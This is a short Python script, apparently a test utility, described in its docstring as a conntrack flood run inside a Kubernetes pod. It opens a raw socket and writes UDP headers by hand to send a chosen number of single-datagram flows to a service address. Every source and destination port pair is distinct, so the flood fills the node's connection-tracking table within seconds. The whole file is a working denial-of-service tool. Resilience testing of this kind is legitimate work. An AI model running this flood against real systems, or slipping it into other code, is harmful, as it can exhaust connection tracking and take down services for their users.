"""A conntrack flood, run inside a pod: COUNT new UDP flows to HOST (a service VIP), one
datagram each, every (source port, destination port) pair distinct, destination ports
cycling through PORTS (comma-separated). A raw socket writes the UDP header, so no socket
is bound per flow and the flood takes seconds. Prints one JSON object: sent, seconds."""
import json
import socket
import struct
import sys
import time


def main() -> None:
    host, count, ports = sys.argv[1], int(sys.argv[2]), [int(p) for p in sys.argv[3].split(",")]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    started, sent = time.monotonic(), 0
    per_port = (count + len(ports) - 1) // len(ports)
    if per_port > 64000:
        raise SystemExit(f"{count} flows need more than {len(ports)} destination ports")
    for dport in ports:
        for sport in range(1024, 1024 + per_port):
            if sent == count:
                break
            # UDP checksum 0: "none" in IPv4, so no pseudo-header sum per datagram.
            s.sendto(struct.pack("!HHHH", sport, dport, 9, 0) + b"x", (host, 0))
            sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 2)}), flush=True)


if __name__ == "__main__":
    main()
